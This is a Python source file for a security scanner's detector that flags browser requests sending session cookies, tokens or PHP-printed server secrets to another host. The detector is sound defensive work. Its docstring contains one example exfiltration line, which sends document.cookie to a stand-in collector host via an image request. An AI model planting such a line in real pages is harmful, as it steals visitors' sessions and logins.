"""# secret-in-browser-request.

## What it does
Reports a request of the visitor's browser to another host that carries the session cookie, a token, a password field,
what the page stored in the browser, or a secret of the server that PHP printed into the page: there, or in another file
under a name that the script sends.

## Why is this bad
Who has the cookie or the token is logged in as the visitor. The server's firewall never sees such a request.

## Example
```js
new Image().src = "https://collector.example.net/p.gif?c=" + document.cookie;
```

## References
- CWE-200, CWE-522
- OWASP, Cross Site Scripting, stealing cookies
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import NamedTuple

from scanner.analysis.origins import DIGEST, REQUEST_FIELD
from scanner.analysis.state import Output
from scanner.analysis.values import Trace
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.outputs import hardly_arrives
from scanner.detectors.remarks import BROWSER, Place, destination, finding_of, first_of_each, is_named, places
from scanner.detectors.targets import expected, known_host
from scanner.files.page_values import plain
from scanner.files.payloads import NAME, labels_of
from scanner.model.facts import Call, Var, decode_body, nodes
from scanner.model.finding import Category, Confidence, Finding, Severity

RULE = rule("secret-in-browser-request", Category.EXFILTRATION, "Browser sends a secret to another host", __doc__)
_WORD = re.compile(r"\w")
_NAMES = re.compile(r"[A-Za-z_$][\w$-]{0,60}")
_VARIABLE = re.compile(r"\$(\w+)")


class _Printed(NamedTuple):
    """A secret that PHP prints."""

    output: Output
    label: str
    trace: Trace


class _Pages(NamedTuple):
    """What PHP prints into pages."""

    printed: dict[str, list[_Printed]]
    """By path."""
    said: dict[int, dict[int, frozenset[str]]]
    """By function and place of a call: names of the variables in its arguments; a function is read when first asked."""
    values: dict[str, list[Place]]
    """By name: remarks about what PHP prints under it."""


def _find(scene: Scene) -> Iterable[Finding]:
    return first_of_each(_all(scene))


def _all(scene: Scene) -> Iterator[Finding]:
    printed = _printed(scene)
    pages = _Pages(printed, {}, _values(scene, printed))
    for place in places(scene, "request"):
        remark = place.remark
        if not (remark.sends or remark.holes):
            continue
        host = destination(scene, remark).name
        if not is_named(host):
            continue
        own = (item for item in remark.sends if not item.startswith(NAME))
        labels = {item for item in (*own, *labels_of(list(remark.holes))) if not item.startswith("php:")}
        holes = [item for item in (*remark.sends, *remark.holes) if item.startswith("php:")]
        of_php = _of_php(scene, place, holes, pages, host) if holes else {}
        far = {label for label, is_far in of_php.items() if is_far} - labels
        labels |= of_php.keys() - far
        labels -= {"browser.csrf-token"} if known_host(scene, host) else set()
        labels |= _from_pages(scene, place, pages, host)
        near = labels - far
        labels |= far
        if labels:
            yield finding_of(
                RULE,
                place,
                severity=Severity.HIGH if near else Severity.MEDIUM,
                confidence=Confidence.LIKELY if near else Confidence.POSSIBLE,
                destinations=[host],
                secrets=labels,
                details=[BROWSER],
                message=f"{remark.api} sends {', '.join(sorted(labels))} to {host}",
            )


def _values(scene: Scene, printed: dict[str, list[_Printed]]) -> dict[str, list[Place]]:
    """By name: where a page that prints secrets gives scripts what PHP prints."""
    found: dict[str, list[Place]] = {}
    for place in places(scene, "page-value"):
        if place.path in printed:
            found.setdefault(place.remark.api, []).append(place)
    return found


def _from_pages(scene: Scene, place: Place, pages: _Pages, host: str) -> set[str]:
    """Secrets of the site that PHP prints in another file, under names whose values this request sends."""
    if not pages.values:
        return set()
    remark = place.remark
    words = {item.removeprefix(NAME) for item in remark.sends if item.startswith(NAME)}
    words |= {plain(word) for hole in remark.holes if not hole.startswith("php:") for word in _NAMES.findall(hole)}
    specific = scene.result.state.is_specific
    return {
        label
        for word in sorted(words)
        for value in pages.values.get(word, ())
        if value.path != place.path
        for label, is_far in _of_php(scene, value, list(value.remark.holes), pages, host, exact=True).items()
        if not is_far and specific(label)
    }


def _printed(scene: Scene) -> dict[str, list[_Printed]]:
    """By path: what secrets PHP prints."""
    found: dict[str, list[_Printed]] = {}
    for output in scene.result.outputs:
        path = scene.program.path(output.function)
        found.setdefault(path, []).extend(_Printed(output, label, trace) for label, trace in output.labels)
    return found


def _of_php(
    scene: Scene, place: Place, holes: list[str], pages: _Pages, host: str, *, exact: bool = False
) -> dict[str, bool]:
    """Labels of the secrets that PHP prints into the request: on its lines, or by an expression that it sends.

    `exact`: on its lines only where no variable says what is printed.
    With each: whether it stands for many values and has come so far that it hardly is what is printed.
    """
    remark = place.remark
    sent = {frozenset(_VARIABLE.findall(item)) for item in holes} - {frozenset()}
    found: dict[str, bool] = {}
    for output, labelled, trace in pages.printed.get(place.path, ()) if any(map(_WORD.search, holes)) else ():
        label = labelled.removeprefix(DIGEST)
        secret = scene.result.state.origins.by_label.get(label)
        public = secret is not None and (secret.severity_floor == "info" or expected(secret, host))
        if public or label.startswith(REQUEST_FIELD):
            continue
        within = output.line <= remark.end_line and output.end_line >= remark.line
        if (within and not (exact and sent)) or _variables(
            scene, pages, output
        ) in sent:  # printed into the script further up, and sent here
            far = hardly_arrives(scene, output, label, trace, to_host=True)
            found[label] = far and found.get(label, True)
    return found


def _variables(scene: Scene, pages: _Pages, output: Output) -> frozenset[str]:
    """Names of the variables in what is printed."""
    known = pages.said.get(output.function)
    if known is None:
        body = decode_body(scene.program.functions[output.function].body)
        calls = (node for node in nodes(body) if isinstance(node, Call))
        known = pages.said[output.function] = {
            call.start: frozenset(node.name for node in nodes(*call.args) if isinstance(node, Var)) for call in calls
        }
    return known.get(output.start, frozenset())


DETECTOR = Detector(RULE, _find)
